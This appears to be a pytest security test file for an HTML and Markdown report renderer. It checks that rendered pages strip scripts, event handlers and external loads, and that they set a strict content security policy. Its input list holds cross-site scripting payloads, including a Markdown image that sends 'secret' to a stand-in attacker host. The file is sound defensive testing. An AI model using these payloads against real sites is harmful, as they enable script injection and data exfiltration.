"""Cases 13 and 14, the brief as one HTML page: words that are markup are words, links lead only to the web.

The local page and a real browser have tests of their own: tests/serve and tests/browser.
"""

import re
from dataclasses import replace

import pytest
from lxml import html as lx

from hearsay.api import Options, _reader
from hearsay.model import Report
from hearsay.pipeline import brief_of
from hearsay.render.html import html
from hearsay.render.markdown import markdown
from hearsay.render.view import view
from hearsay.tables import Tables

pytestmark = pytest.mark.hostile
WORDS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg onload=alert(1)><math><mtext></style><script>alert(1)</script>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "</title></style></textarea><iframe src=//evil.example>",
    "<img srcset='//evil.example/x 1x'>",
    "<p style='background:url(//evil.example)'>",
    "![x](https://evil.example/?q=secret)",
    "\u202e<b onmouseover=alert(1)>\x00\x1b[31m\ud800",
]


def page(words: str) -> tuple[str, str]:
    """The page and the Markdown of a brief that has the words in every field."""
    text = f"The dam broke, {words} Ana Ruiz said on Monday. “It fell {words},” Ben Okoro told {words}.\n\n{words}"
    report = Report(id="r1", text=text, title=words, outlet=words, author=words, path=words)
    other = replace(report, id="r2", text="The dam did not break, Cleo Varga said.", path=f"https://a.example/{words}")
    reader = _reader(Options())
    made = brief_of([reader.read(report), reader.read(other)], reader, Tables.shipped())
    shown = view(made, everything=True)
    return html(shown, [report, other]), markdown(shown, why=True)


@pytest.mark.parametrize("words", WORDS)
def test_nothing_in_the_page_acts_or_asks_anybody(words: str) -> None:
    made, _ = page(words)
    tree = lx.fromstring(made.encode("utf-8", "replace"))
    for e in tree.iter():
        assert e.tag not in ("script", "img", "iframe", "svg", "math", "object", "embed", "form", "base", "link")
        assert not [a for a in e.attrib if a.lower().startswith("on") or a.lower() in ("srcset", "src", "style")]
        href = e.get("href")
        assert href is None or re.match(r"#|https?://", href), href
        if href and not href.startswith("#"):
            assert {"noopener", "noreferrer"} <= set((e.get("rel") or "").split())
    policy = tree.xpath("//meta[@http-equiv='Content-Security-Policy']/@content")
    assert policy
    assert "default-src 'none'" in policy[0]


@pytest.mark.parametrize("words", WORDS)
def test_markdown_shows_no_picture_and_no_tag(words: str) -> None:
    _, made = page(words)
    assert "![x](" not in made
    assert not re.search(r"(?<!\\)<(?:script|img|svg|iframe|b|p)\b", made)
